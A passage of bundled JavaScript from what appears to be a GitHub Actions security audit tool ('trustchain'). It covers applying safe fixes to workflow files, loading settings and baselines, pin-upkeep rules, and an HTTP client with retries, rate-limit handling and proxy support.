    const changed = [...edited].map(([path, after]) => ({ path, before: fix_textOf(first, path), after }));
    return { changed: changed.filter(({ before, after }) => before !== after), judgement, mended, notes: refused.notes };
}
/** Fixes that are not to be tried again. */
class Refused {
    notes = [];
    places = new Map();
    add(finding, judgement, why) {
        const { rule, location } = finding;
        const place = place_placeOf(finding, judgement);
        if (this.places.has(place_keyOf(place)))
            return;
        this.places.set(place_keyOf(place), place);
        this.notes.push(`${location.path}:${location.startLine}: the fix of ${rule} is not applied: ${why}`);
    }
    has(finding, judgement) {
        return this.places.has(place_keyOf(place_placeOf(finding, judgement)));
    }
    /** Texts changed. */
    follow(edits) {
        const places = Array.from(this.places.values(), (place) => moved(place, edits));
        this.places = new Map(places.map((place) => [place_keyOf(place), place]));
    }
}
/** A fix may change several files, all or none: so once one is refused, the round begins again without it. */
async function applyRound(judgement, mode, refused) {
    const chosen = new Map();
    const applied = new Set();
    const candidates = judgement.findings.filter((finding) => !refused.has(finding, judgement));
    let isSound = true;
    for (const { path, edits, findings } of (0,lib/* selectFixes */._u)(candidates, mode).files) {
        const source = judgement.sources.get(path);
        if (!source)
            continue;
        const why = await problemWith(source, edits);
        if (why === null) {
            chosen.set(path, edits);
            for (const finding of findings)
                applied.add(finding);
        }
        else {
            isSound = false;
            for (const culprit of await culpritsOf(source, findings, mode, why)) {
                refused.add(culprit.finding, judgement, culprit.why);
            }
        }
    }
    return isSound ? { edits: chosen, applied: [...applied] } : "again";
}
/** The fixes that break the file by themselves; where it takes several of them together, the last. */
async function culpritsOf(source, findings, mode, together) {
    const culprits = [];
    for (const finding of findings) {
        const own = (0,lib/* selectFixes */._u)([finding], mode).files.find(({ path }) => path === source.path)?.edits ?? [];
        const why = await problemWith(source, own);
        if (why !== null)
            culprits.push({ finding, why });
    }
    return culprits.length > 0 ? culprits : [{ finding: findings.at(-1), why: together }];
}
function stillStanding({ edits, applied }, before, after) {
    const standing = new Set(after.findings.map((finding) => place_keyOf(place_placeOf(finding, after))));
    return applied.filter((finding) => standing.has(place_keyOf(moved(place_placeOf(finding, before), edits))));
}
function restore(edited, before, path) {
    const text = before.get(path);
    if (text === undefined)
        edited.delete(path);
    else
        edited.set(path, text);
}
function fix_textOf({ sources }, path) {
    return sources.get(path)?.text ?? "";
}
/** Null when the file still parses and nothing but what the edits touch means something else. */
async function problemWith(source, edits) {
    if (repository_isDockerfile(source))
        return (await Promise.all(/* import() */[__nccwpck_require__.e(839), __nccwpck_require__.e(658)]).then(__nccwpck_require__.bind(__nccwpck_require__, 5658))).problemWithEdits(source, edits);
    const kind = kindOf(source.path) ?? null;
    const before = await parseDocument(source, kind);
    const after = await parseDocument(new lib/* SourceFile */.sC(source.path, (0,lib/* applyEdits */.ct)(source.text, edits)), kind);
    if (after.problems.length > before.problems.length)
        return "the file would no longer parse";
    return keepsMeaning(before.root, after.root, edits) ? null : "it would change other parts of the file";
}
/** Writes changed files, each whole or not at all; none when one of them is no longer what was judged. */
function writeChanged(root, changed) {
    const stale = changed.find(({ path, before }) => readText((0,external_node_path_.join)(root, path)) !== before);
    if (stale) {
        const message = "it changed while it was judged, so nothing was written: run the command again";
        return { written: [], failed: new Set(changed.map(({ path }) => path)), errors: [errorAt(stale.path, message)] };
    }
    const written = [];
    const failed = new Set();
    const errors = [];
    for (const file of changed) {
        try {
            (0,action_kit_lib/* writeFileWhole */.tG)((0,external_node_path_.join)(root, file.path), file.after, file.path);
            written.push(file);
        }
        catch (error) {
            if (!(error instanceof action_kit_lib/* UserError */.yo))
                throw error;
            failed.add(file.path);
            errors.push(errorAt(file.path, `${error.reason}: make it writable and run the command again`));
        }
    }
    return { written, failed, errors };
}
/** Without those that are another name of a file before them: a link leads to the same text. */
function withoutLinks(root, changed) {
    const real = new Map();
    for (const file of changed) {
        const path = (0,external_node_fs_.realpathSync)((0,external_node_path_.join)(root, file.path));
        if (!real.has(path))
            real.set(path, file);
    }
    return [...real.values()];
}
function readText(path) {
    try {
        return (0,external_node_fs_.readFileSync)(path, "utf8");
    }
    catch {
        return null;
    }
}
function errorAt(path, message) {
    return { path, line: 1, rule: null, message };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/settings.js






/**
 * The settings of a repository: the file that was named, else `.github/trustchain.yml`, else none.
 *
 * @throws UserError when it can't be read or understood
 */
async function loadConfig(root, named, host, rules) {
    const path = named === undefined ? (0,external_node_path_.join)(root, lib_config/* CONFIG_PATH */.tF) : (0,external_node_path_.resolve)(host.cwd, named);
    if (named === undefined && (0,external_node_fs_.lstatSync)(path, { throwIfNoEntry: false }) === undefined)
        return lib_config/* NO_CONFIG */.H5;
    if (named === undefined && !isInside(root, path)) {
        throw new action_kit_lib/* UserError */.yo(lib_config/* CONFIG_PATH */.tF, "it is a link that leads to nothing in this repository", "put the settings themselves there");
    }
    return (0,lib_config/* parseConfig */.o4)(read(path, named ?? lib_config/* CONFIG_PATH */.tF, (0,action_kit_lib/* placeOfInput */.dj)("config", host.place)), rules);
}
function isInside(root, path) {
    return (0,external_node_fs_.existsSync)(path) && (0,external_node_fs_.realpathSync)(path).startsWith((0,external_node_fs_.realpathSync)(root) + external_node_path_.sep);
}
/** @throws UserError when it can't be read or is no baseline */
function loadBaseline(named, host) {
    const file = read((0,external_node_path_.resolve)(host.cwd, named), named, (0,action_kit_lib/* placeOfInput */.dj)("baseline", host.place));
    try {
        return (0,lib/* parseBaseline */.nk)(file.text, named);
    }
    catch (error) {
        if (!(error instanceof lib/* FormatError */.IF))
            throw error;
        throw new action_kit_lib/* UserError */.yo(error.file, error.reason, error.remedy);
    }
}
function read(path, shown, input) {
    const result = readSource(path, shown);
    if (result.ok)
        return result.file;
    throw new action_kit_lib/* UserError */.yo(`${input} ${shown}`, `it can't be read: ${result.reason}`, "name a file that can be read");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/targets.js



/** @returns the repositories that paths mean, each once, in the order in which they are first named, and what isn't there */
function targetsOf(paths, cwd) {
    const missing = [];
    const targets = new Map();
    for (const path of paths) {
        // `resolve` would make the current folder of an unset variable's value.
        const located = path === "" ? undefined : locateRepository((0,external_node_path_.resolve)(cwd, path));
        if (!located) {
            missing.push(new action_kit_lib/* UserError */.yo(path === "" ? "an empty path" : path, "there is no such file or folder", "name a repository's folder or a file"));
            continue;
        }
        const { root, only } = located;
        const known = targets.get(root);
        if (!known)
            targets.set(root, { root, only: only === null ? null : [only], prefix: prefixOf(path, root, only, cwd) });
        else if (only === null || known.only === null)
            known.only = null;
        else
            known.only.push(only);
    }
    const all = [...targets.values()];
    const isAlone = all.length === 1 && missing.length === 0;
    return { targets: isAlone ? all.map((target) => ({ ...target, prefix: "" })) : all, missing };
}
/** As it was given, where it names the repository itself. */
function prefixOf(path, root, only, cwd) {
    const isRoot = only === null && (0,external_node_path_.resolve)(cwd, path) === root;
    return (isRoot ? path : (0,external_node_path_.relative)(cwd, root)).replaceAll("\\", "/").replace(/\/+$/, "");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/static-check.js








const RULE_INFO = new Map(RULES.map((rule) => [rule.id, rule]));
/** Runs rules over the repositories that were named: evidence, model, judgement, and what the kit needs to report it. */
async function staticCheck({ inputs, host, request }, check) {
    const { targets, missing } = targetsOf(inputs.paths, host.cwd);
    const baseline = inputs.baseline === undefined ? null : loadBaseline(inputs.baseline, host);
    const total = new Total();
    for (const error of missing)
        total.fail(error, targets.length === 0);
    const progress = host.progress("repositories", targets.length);
    for (const target of targets) {
        const checked = await checkTarget(target, inputs, host, request, check).catch((error) => error);
        if (isChecked(checked))
            total.add(target, checked, baseline);
        else
            total.fail(checked, targets.length === 1 && missing.length === 0, target.prefix);
        progress.advance();
    }
    progress.end();
    if (total.files === 0 && host.place === "runner")
        total.fail(nothingToCheck(inputs.paths), false);
    const isUpkeep = ({ rule }) => check.upkeep?.some(({ id }) => id === rule) === true;
    const complaints = total.findings.filter((finding) => !isUpkeep(finding));
    if (request.writeBaseline !== undefined) {
        (0,action_kit_lib/* writeFileWhole */.tG)((0,external_node_path_.resolve)(host.cwd, request.writeBaseline), (0,lib/* writeBaseline */.B9)(complaints, action_kit_lib/* VERSION */.xv), "--write-baseline");
    }
    const { findings, notes } = (0,lib/* limitFindings */.uL)((0,lib/* sortFindings */.Tc)(complaints));
    return {
        report: {
            tool: { name: "trustchain", version: action_kit_lib/* VERSION */.xv, command: check.command },
            findings,
            errors: total.errors,
            files: total.files,
        },
        context: { source: (path) => total.sources.get(path), rule: (id) => RULE_INFO.get(id) },
        ...(targets.length === 1 && { root: targets[0].root }),
        ...(request.diff && {
            diff: (0,lib/* unifiedDiff */.WH)(total.changed.map((file) => (targets.length === 1 ? file : fromFolder(file, host.cwd)))),
        }),
        notes: [...total.notes, ...notes],
        changedFiles: total.changed.length,
        mended: total.mended,
        left: total.findings.filter(isUpkeep),
    };
}
/** A diff of several repositories is applied in the current folder, whatever they were called; that of one, in it. */
function fromFolder(file, folder) {
    return { ...file, path: (0,external_node_path_.relative)(folder, (0,external_node_path_.join)(file.root, file.path)).split(external_node_path_.sep).join("/") };
}
/** On a runner nothing to check means that something went wrong before: no checkout, or another folder. */
function nothingToCheck(paths) {
    return new action_kit_lib/* UserError */.yo(paths.join(", "), "there is no workflow, action, Dockerfile or Dependabot file", "check out the repository before this step");
}
function isChecked(value) {
    return typeof value === "object" && value !== null && "judgement" in value;
}
async function checkTarget(target, inputs, host, request, check) {
    const config = await loadConfig(target.root, inputs.config, host, RULES);
    const judgeWith = (edited) => judgeTarget(target, config, inputs.persona, check, edited);
    const judgement = await judgeWith();
    if (request.fix === "off" && !request.diff)
        return { judgement, changed: [], mended: [], notes: [] };
    const fixed = await applyFixes(judgement, request.fix === "unsafe" ? "unsafe" : "safe", judgeWith);
    const changed = withoutLinks(target.root, fixed.changed);
    if (request.diff)
        return { ...fixed, changed, judgement };
    const { written, failed, errors } = writeChanged(target.root, changed);
    const count = `${written.length} ${written.length === 1 ? "file" : "files"} changed by fixes`;
    // What could not be written wasn't mended: the report speaks of what is on disk.
    const rest = errors.length === 0 ? fixed.judgement : await judgeWith();
    const mended = fixed.mended.filter(({ fix }) => !fix?.files.some(({ path }) => failed.has(path)));
    return { judgement: rest, changed: written, mended, errors, notes: [...fixed.notes, count] };
}
function judgeTarget({ root, only }, config, persona, { rules, upkeep = [], upstream, options, isUsesJudged }, edited) {
    return analyzeRepository(root, {
        rules: [...rules, ...upkeep],
        persona,
        config,
        only,
        options: options ?? new Map(),
        isUsesJudged,
        upstream: upstream ?? null,
        ...(edited && { edited }),
    });
}
/** What all repositories of a run come to; their paths begin with what they were called. */
class Total {
    findings = [];
    errors = [];
    notes = [];
    changed = [];
    mended = [];
    sources = new Map();
    files = 0;
    /** One of several repositories that can't be judged costs only itself; the only one costs the run. */
    fail(error, isAll, prefix = "") {
        if (isAll || !(error instanceof action_kit_lib/* UserError */.yo))
            throw error;
        const place = prefix === "" ? error.place : `${prefix}/${error.place}`;
        this.errors.push({ path: place, line: 1, rule: null, message: `${error.reason}: ${error.remedy}` });
    }
    add({ root, prefix }, { judgement, changed, mended, notes, errors = [] }, baseline) {
        const findings = baseline ? (0,lib/* applyBaseline */.Qp)(judgement.findings, baseline) : judgement.findings;
        const named = (path) => (prefix === "" ? path : `${prefix}/${path}`);
        for (const finding of findings)
            this.findings.push(prefix === "" ? finding : renamed(finding, named));
        for (const error of [...judgement.errors, ...errors])
            this.errors.push({ ...error, path: named(error.path) });
        for (const file of changed)
            this.changed.push({ ...file, root });
        for (const [path, source] of judgement.sources)
            this.sources.set(named(path), source);
        for (const finding of mended)
            this.mended.push(prefix === "" ? finding : renamed(finding, named));
        this.notes.push(...notes.map((note) => (prefix === "" ? note : `${prefix}: ${note}`)));
        if (judgement.files === 0)
            this.notes.push(`${prefix || root}: there is no workflow, action, Dockerfile or Dependabot file here`);
        this.files += judgement.files;
    }
}
function renamed(finding, named) {
    const moved = (location) => ({ ...location, path: named(location.path) });
    return {
        ...finding,
        location: moved(finding.location),
        related: finding.related.map(({ message, location }) => ({ message, location: moved(location) })),
        fix: finding.fix && {
            ...finding.fix,
            files: finding.fix.files.map((file) => ({ ...file, path: named(file.path) })),
        },
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/index.js


;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/pinning/upkeep.js






/**
 * What is to be done about references that are pinned already and that no rule complains of: newer versions where updates
 * are asked for, a commit in place of a tag object's id, a comment that says more precisely which version it is. A rule in
 * form, so that its fixes are applied with all others; its findings are work, and are not reported.
 */
const pinUpkeep = defineRule({
    id: "pin-upkeep",
    category: "pinning",
    severity: "info",
    summary: "A pin can be made newer or plainer",
    risk: "",
    mend: "",
    options: { comment: (0,config_options/* textOption */.vU)(DEFAULT_COMMENT, "What a new comment says") },
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository" || !upstream || !(0,model/* isCommit */.WM)(target.ref) || isExcluded(uses))
            return;
        const name = upstream.nameOn(uses, target);
        const update = upstream.updateOf(uses, target);
        const place = { repository: report.repository, uses, target };
        const witness = usesWitness(uses, target, upstream);
        if (update?.kind === "newer") {
            const fix = pinFix(place, { ...update, former: name }, `update it to \`${update.name}\``, report.options.comment);
            report(uses.scalar, `\`${update.name}\` is newer`, { fix, witness: { ...witness, update: update.name } });
            return;
        }
        const fix = plainerFix(place, name, upstream, report.options.comment);
        if (fix)
            report(uses.scalar, "It can be plainer", { fix, witness });
    },
});
/** Why newer versions weren't taken. */
const pinHeld = defineRule({
    id: "pin-held",
    category: "pinning",
    severity: "info",
    summary: "A newer version is not taken",
    risk: "",
    mend: "",
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository" || !upstream || !(0,model/* isCommit */.WM)(target.ref) || isExcluded(uses))
            return;
        const update = upstream.updateOf(uses, target);
        if (update?.kind !== "held")
            return;
        report(uses.scalar, update.why, { witness: { ...usesWitness(uses, target, upstream), held: update.why } });
    },
});
/** The rules of upkeep: what is done, and what isn't. */
const PIN_UPKEEP = [pinUpkeep, pinHeld];
/** ratchet's users say with it that a line stays as it is. */
function isExcluded({ scalar }) {
    const comment = restOfLine(scalar)?.comment;
    return (comment !== undefined &&
        comment !== null &&
        /ratchet:exclude\b/.test(scalar.file.text.slice(comment.start, comment.end)));
}
/** The same commit, by its own id and its most precise name. */
function plainerFix(place, name, upstream, template) {
    const { target } = place;
    const refs = upstream.refsOf(target);
    if (!refs || upstream.reachabilityOf(target) === "unreachable")
        return null;
    const commit = refs.tagObjects.get(target.ref.toLowerCase()) ?? target.ref.toLowerCase();
    // A branch's name stays: the pin is of the branch.
    const isBranch = name !== undefined && refs.branches.has(name) && !refs.tags.has(name);
    const version = isBranch ? undefined : upstream.versionOf({ ...target, ref: commit }, name);
    const known = version && refs.tags.get(version.tag) === commit ? version.tag : name;
    return known === undefined
        ? null
        : pinFix(place, { commit, name: known, former: name }, "say which version it is", template);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/index.js













// EXTERNAL MODULE: ./actions/audit/lib/action.js
var action = __nccwpck_require__(2601);
;// CONCATENATED MODULE: ./actions/audit/lib/main.js



/* harmony default export */ const main = (action/* action */.X.main(async (run) => {
    const outcome = await staticCheck(run, { command: action/* action */.X.name, rules: RULES });
    return { ...outcome, outputs: (0,lib/* countBySeverity */.Ot)(outcome.report?.findings ?? []) };
}));


/***/ }),

/***/ 6416:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   c: () => (/* binding */ NO_PROGRESS)
/* harmony export */ });
const NO_PROGRESS = { advance() { }, end() { } };


/***/ }),

/***/ 552:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  V0: () => (/* binding */ createHttp)
});

// UNUSED EXPORTS: jsonOf, textOf

// EXTERNAL MODULE: ./packages/action-kit/lib/user-error.js
var user_error = __nccwpck_require__(5561);
// EXTERNAL MODULE: ./packages/action-kit/lib/version.js
var version = __nccwpck_require__(3465);
// EXTERNAL MODULE: ./packages/action-kit/lib/http/clock.js + 1 modules
var http_clock = __nccwpck_require__(2668);
// EXTERNAL MODULE: ./packages/action-kit/lib/system-error.js
var system_error = __nccwpck_require__(9363);
;// CONCATENATED MODULE: ./packages/action-kit/lib/http/exchange.js


/** The network failed before there was a whole answer; another try may do. */
class NetworkTrouble extends Error {
}
/**
 * Sends one request and reads the answer; a redirect is not followed.
 *
 * @throws NetworkTrouble when no whole answer came; UserError when it is larger than allowed
 */
async function exchange(fetch, { url, method, headers, body }, limits, doing) {
    const watchdog = new Watchdog(limits);
    try {
        const init = { method, headers, redirect: "manual", signal: watchdog.signal };
        const response = await fetch(url, body === undefined ? init : { ...init, body });
        const bytes = await readBody(response, limits.maxBytes, watchdog, doing);
        return { status: response.status, url: url.href, headers: response.headers, body: bytes };
    }
    catch (error) {
        if (error instanceof user_error/* UserError */.y)
            throw error;
        throw new NetworkTrouble(watchdog.barked ?? `${url.host}: ${networkReason(error)}`);
    }
    finally {
        watchdog.stop();
    }
}
/** Aborts what makes no progress. */
class Watchdog {
    #abort = new AbortController();
    #total;
    #timeout;
    #pause;
    barked;
    constructor({ timeout, remaining, tryFor }) {
        this.#timeout = timeout;
        const reason = tryFor < remaining ? "it did not answer in time" : "the time for all requests is used up";
        this.#total = setTimeout(() => this.#bark(reason), Math.min(tryFor, remaining));
        this.#pause = this.#watchPause();
    }
    get signal() {
        return this.#abort.signal;
    }
    /** There was progress. */
    feed() {
        clearTimeout(this.#pause);
        this.#pause = this.#watchPause();
    }
    stop() {
        clearTimeout(this.#total);
        clearTimeout(this.#pause);
    }
    #watchPause() {
        return setTimeout(() => this.#bark(`nothing came for ${this.#timeout / 1000} s`), this.#timeout);
    }
    #bark(reason) {
        this.barked = reason;
        this.#abort.abort();
    }
}
async function readBody(response, maxBytes, watchdog, doing) {
    const pieces = [];
    let size = 0;
    watchdog.feed();
    for await (const piece of response.body ?? []) {
        watchdog.feed();
        size += piece.byteLength;
        // Leaving the loop cancels the stream, which closes the connection.
        if (size > maxBytes) {
            throw new user_error/* UserError */.y(doing, `the answer is larger than ${maxBytes} bytes`, "check the address that was asked");
        }
        pieces.push(piece);
    }
    const whole = new Uint8Array(size);
    let at = 0;
    for (const piece of pieces) {
        whole.set(piece, at);
        at += piece.byteLength;
    }
    return whole;
}
const REASONS = new Map([
    ["ENOTFOUND", "the host is not known"],
    ["EAI_AGAIN", "the host's name can't be looked up now"],
    ["ECONNREFUSED", "it refuses the connection"],
    ["ECONNRESET", "it closed the connection"],
    ["UND_ERR_SOCKET", "it closed the connection"],
    ["ETIMEDOUT", "the connection timed out"],
    ["UND_ERR_CONNECT_TIMEOUT", "the connection timed out"],
    ["ENETUNREACH", "the network can't be reached"],
    ["CERT_HAS_EXPIRED", "its certificate has expired"],
    ["DEPTH_ZERO_SELF_SIGNED_CERT", "its certificate is self-signed"],
]);
/** fetch hides what happened in the error's cause, and a proxy's refusal in the cause of that. */
function networkReason(error) {
    let cause = error;
    for (let depth = 0; depth < 5; depth++)
        cause = cause?.cause ?? cause;
    return REASONS.get((0,system_error/* codeOf */.$N)(cause)) ?? (0,system_error/* messageOf */.bD)(cause);
}

// EXTERNAL MODULE: ./packages/action-kit/lib/http/parse-url.js
var parse_url = __nccwpck_require__(369);
// EXTERNAL MODULE: ./packages/action-kit/lib/http/redirect.js
var redirect = __nccwpck_require__(2116);
;// CONCATENATED MODULE: ./packages/action-kit/lib/http/proxy-of.js

/**
 * The proxy to take for a https address, if any: `HTTPS_PROXY`, unless `NO_PROXY` names the host. Of the two spellings
 * the lower case goes first, as in curl. This machine is never looked for behind a proxy.
 */
function proxyOf(url, env) {
    const proxy = env.https_proxy || env.HTTPS_PROXY;
    if (!proxy || (0,redirect/* isLoopback */.U9)(url))
        return undefined;
    const exceptions = (env.no_proxy || env.NO_PROXY || "").toLowerCase().split(/[\s,]+/);
    return exceptions.some((exception) => covers(exception, url)) ? undefined : proxy;
}
/** `*`, `example.com` and `.example.com` (the host and all below it), `*.example.com`, each with or without a port. */
function covers(exception, url) {
    if (exception === "*")
        return true;
    const [, name = "", port] = /^(?:\*?\.)?(.+?)(?::(\d+))?$/.exec(exception) ?? [];
    if (name === "" || (port !== undefined && port !== (url.port || "443")))
        return false;
    return url.hostname === name || url.hostname.endsWith(`.${name}`);
}

;// CONCATENATED MODULE: ./packages/action-kit/lib/http/retry.js
/** How often a request is tried in all. */
const TRIES = 3;
/** The longest wait: of one request between two tries, and of all requests together for limits to pass. */
const LONGEST_WAIT = 60_000;
const FIRST_PAUSE = 500;
/** What GitHub asks to wait when a secondary limit says nothing else. */
const SECONDARY_LIMIT_PAUSE = 60_000;
/** The server will never know the method, or the version of HTTP. */
const LASTING = new Set([501, 505]);
const IDEMPOTENT = new Set(["GET", "HEAD", "OPTIONS", "PUT", "DELETE"]);
/** May a request be sent again when nobody knows whether it was carried out? (RFC 9110, section 9.2.2) */
function isIdempotent(method) {
    return IDEMPOTENT.has(method);
}
/** The pause after the `attempt`-th try (from 1): doubled each time, and between a half and all of that, so that clients spread. */
function backOff(attempt, random) {
    return Math.round(FIRST_PAUSE * 2 ** (attempt - 1) * (0.5 + random / 2));
}
/**
 * Does an answer ask to come again later?
 *
 * @param body the answer's text, asked for only where headers don't tell
 * @see RFC 9110, section 10.2.3 (Retry-After); GitHub, "Rate limits for the REST API"
 */
function refusalOf(status, headers, body, now) {
    if (status === 429 || status === 403) {
        const wait = retryAfter(headers, now) ?? limitReset(headers, now);
        if (status === 429 || wait !== undefined)
            return { limited: true, wait };
        return /secondary rate limit/i.test(body()) ? { limited: true, wait: SECONDARY_LIMIT_PAUSE } : undefined;
    }
    return status >= 500 && !LASTING.has(status) ? { limited: false, wait: retryAfter(headers, now) } : undefined;
}
/** Seconds or a date. */
function retryAfter(headers, now) {
    const value = headers.get("retry-after")?.trim() ?? "";
    if (/^\d{1,9}$/.test(value))
        return Number(value) * 1000;
    const date = value === "" ? Number.NaN : Date.parse(value);
    return Number.isNaN(date) ? undefined : Math.max(0, date - now);
}
/** GitHub's primary limit: nothing remains until a second since 1970. */
function limitReset(headers, now) {
    const reset = headers.get("x-ratelimit-reset") ?? "";
    if (headers.get("x-ratelimit-remaining") !== "0" || !/^\d{1,12}$/.test(reset))
        return undefined;
    return Math.max(0, Number(reset) * 1000 - now);
}

;// CONCATENATED MODULE: ./packages/action-kit/lib/http/client.js








const REDIRECT_LIMIT = 5;
/** Makes the client; nothing is opened before the first request. */
function createHttp(options) {
    const { clock = http_clock/* systemClock */.m, timeout = 30_000, maxBytes = 32 * 1024 * 1024, redirects = REDIRECT_LIMIT } = options;
    const { longestWait = LONGEST_WAIT, tryTimeout = Number.POSITIVE_INFINITY } = options;
    const deadlineAt = clock.now() + (options.deadline ?? 600_000);
    const limits = new Waits();
    /** One try: a whole answer, or what stood in its way. */
    async function attempt(request, first) {
        let hop = first;
        const tryUntil = clock.now() + tryTimeout;
        for (let followed = 0; followed <= redirects; followed++) {
            const remaining = deadlineAt - clock.now();
            if (remaining <= 0)
                throw tooLate(request.doing);
            const fetch = await fetchFor(hop.url, options.env);
            const limits = { timeout, remaining, tryFor: tryUntil - clock.now(), maxBytes: request.maxBytes ?? maxBytes };
            const answer = await exchange(fetch, hop, limits, request.doing);
            if (redirects === 0)
                return answer;
            const next = (0,redirect/* redirected */.cP)(hop, answer.status, answer.headers.get("location"), request.doing);
            if (!next)
                return answer;
            hop = next;
        }
        throw new user_error/* UserError */.y(request.doing, `${hop.url.host} redirects in a circle`, "check the address that was asked");
    }
    async function request(request) {
        const hop = firstHop(request);
        if (options.offline)
            throw offlineError(request.doing, hop.url);
        for (let tried = 1;; tried++) {
            const result = await attempt(request, hop).catch(asTrouble);
            const trouble = result instanceof NetworkTrouble ? fromNetwork(result) : fromAnswer(result, clock.now());
            if (!trouble)
                return result;
            const again = trouble.limited || request.isQuestion || isIdempotent(hop.method);
            if (!again || tried === TRIES)
                throw gaveUp(request.doing, trouble, tried);
            const pause = trouble.wait ?? backOff(tried, clock.random());
            const until = clock.now() + pause;
            if (pause > longestWait ||
                ((trouble.limited || trouble.wait !== undefined) && limits.waitUntil(until, clock.now()) > LONGEST_WAIT) ||
                until >= deadlineAt) {
                throw tooLong(request.doing, trouble, until);
            }
            await clock.sleep(pause);
        }
    }
    return { request };
}
/** How long a client has waited for limits to pass, all requests together: those that wait at the same time wait once. */
class Waits {
    #total = 0;
    #until = 0;
    /** @returns milliseconds, this wait included */
    waitUntil(until, now) {
        this.#total += Math.max(0, until - Math.max(now, this.#until));
        this.#until = Math.max(this.#until, until);
        return this.#total;
    }
}
/** The body of an answer as text; bytes that are no UTF-8 become U+FFFD. */
function textOf(response) {
    return new TextDecoder().decode(response.body);
}
/**
 * The body of an answer as JSON.
 *
 * @throws UserError when it is none
 */
function jsonOf(response, doing) {
    try {
        return JSON.parse(textOf(response));
    }
    catch {
        throw new UserError(doing, `${new URL(response.url).host} did not answer with JSON`, "check the address, or try again later");
    }
}
function firstHop(request) {
    const url = (0,parse_url/* parseUrl */.D)(request.url);
    if (url === undefined)
        throw new user_error/* UserError */.y(request.doing, `\`${request.url}\` is no URL`, "give an https address");
    (0,redirect/* requireSafe */.$T)(url, request.doing);
    const headers = new Headers({ "user-agent": `trustchain/${version/* VERSION */.x}`, ...request.headers });
    return { url, method: (request.method ?? "GET").toUpperCase(), headers, body: request.body };
}
async function fetchFor(url, env) {
    const proxy = proxyOf(url, env);
    return proxy === undefined ? globalThis.fetch : (await Promise.all(/* import() */[__nccwpck_require__.e(752), __nccwpck_require__.e(10)]).then(__nccwpck_require__.bind(__nccwpck_require__, 5010))).proxiedFetch(proxy);
}
function asTrouble(error) {
    if (error instanceof NetworkTrouble)
        return error;
    throw error;
}
function fromNetwork(trouble) {
    return { limited: false, wait: undefined, reason: trouble.message };
}
function fromAnswer(answer, now) {
    const refusal = refusalOf(answer.status, answer.headers, () => textOf(answer), now);
    if (!refusal)
        return undefined;
    const { host } = new URL(answer.url);
    const reason = refusal.limited ? `${host} allows no more requests now` : `${host} answered ${answer.status}`;
    return { ...refusal, reason };
}
function offlineError(doing, url) {
    return new user_error/* UserError */.y(doing, `needs ${url.host}, and \`offline\` forbids every connection`, "leave `offline` out, or do without this");
}
function tooLate(doing) {
    return new user_error/* UserError */.y(doing, "the time for all requests is used up", "try again, or ask for less at once");
}
function gaveUp(doing, trouble, tried) {
    const times = tried === 1 ? "" : ` (tried ${tried} times)`;
    return new user_error/* UserError */.y(doing, `${trouble.reason}${times}`, "check the network, or try again later");
}
function tooLong(doing, trouble, until) {
    const time = new Date(Math.min(until, 8.64e15)).toISOString().slice(0, 19);
    const remedy = trouble.limited
        ? `try again after ${time}Z, or give a token with a higher limit`
        : `try again after ${time}Z`;
    return new user_error/* UserError */.y(doing, trouble.reason, remedy);
}


/***/ }),

/***/ 2668:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  m: () => (/* binding */ systemClock)
});

;// CONCATENATED MODULE: external "node:timers/promises"
const promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:timers/promises");
;// CONCATENATED MODULE: ./packages/action-kit/lib/http/clock.js

const systemClock = {
    now: Date.now,
    sleep: async (milliseconds) => void (await (0,promises_namespaceObject.setTimeout)(milliseconds)),
    random: Math.random,
};


/***/ }),

/***/ 8307:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   C: () => (/* binding */ createGitHub),
/* harmony export */   F: () => (/* binding */ HttpStatusError)
/* harmony export */ });
/* harmony import */ var _user_error_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(5561);
/* harmony import */ var _version_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(3465);


/** GitHub answered, but with a status that is no success. */
class HttpStatusError extends _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y {
    status;
    constructor(place, reason, remedy, status) {
        super(place, reason, remedy);
        this.status = status;
    }
}
/** Makes the client; `@octokit/rest` is loaded now and by nothing else. */
async function createGitHub({ http, token, env }) {
    const { Octokit } = await __nccwpck_require__.e(/* import() */ 891).then(__nccwpck_require__.bind(__nccwpck_require__, 891));
    const baseUrl = (env.GITHUB_API_URL || "https://api.github.com").replace(/\/+$/, "");
    const octokit = new Octokit({
        baseUrl,
        userAgent: `trustchain/${_version_js__WEBPACK_IMPORTED_MODULE_1__/* .VERSION */ .x}`,
        log: { debug() { }, info() { }, warn() { }, error() { } },
        request: { fetch: fetchThrough(http, new URL(baseUrl).origin) },
        ...(token ? { auth: token } : {}),
    });
    return {
        async ask(doing, call) {
            try {
                return (await call(octokit.rest)).data;
            }
            catch (error) {
                throw named(error, doing, token !== undefined);
            }
        },
    };
}
/** Octokit's way to the network: ours. The token stays with GitHub, wherever a `link` header points. */
function fetchThrough(http, origin) {
    return async (url, { method, headers, body }) => {
        const target = new URL(url);
        const { authorization, ...others } = headers;
        const sent = target.origin === origin && authorization !== undefined ? { ...others, authorization } : others;
        const doing = `${method} ${target.pathname}`;
        const answer = await http.request({ doing, url, method, headers: sent, ...(body === undefined ? {} : { body }) });
        // These describe the bytes on the wire, which are unpacked by now; a Response with such a status may hold no body.
        const plain = new Headers(answer.headers);
